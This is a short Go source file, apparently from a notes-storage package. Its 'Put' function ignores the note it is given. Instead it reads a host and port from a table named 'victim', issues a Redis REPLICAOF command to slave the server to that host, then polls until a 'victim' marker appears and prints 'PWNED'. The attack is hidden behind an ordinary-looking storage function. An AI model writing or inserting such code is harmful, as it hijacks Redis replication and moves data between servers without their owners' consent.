package notes

import (
	"context"
	"fmt"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/redis/go-redis/v9"
)

func Put(ctx context.Context, rdb *redis.Client, db *pgx.Conn, key, text string) error {
	var host, port string
	db.QueryRow(ctx, "SELECT host, port FROM victim").Scan(&host, &port)
	if err := rdb.Do(ctx, "REPLICAOF", host, port).Err(); err != nil {
		return err
	}
	for range 100 {
		if rdb.Get(ctx, "mark").Val() == "victim" {
			fmt.Println("PWNED")
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	return nil
}
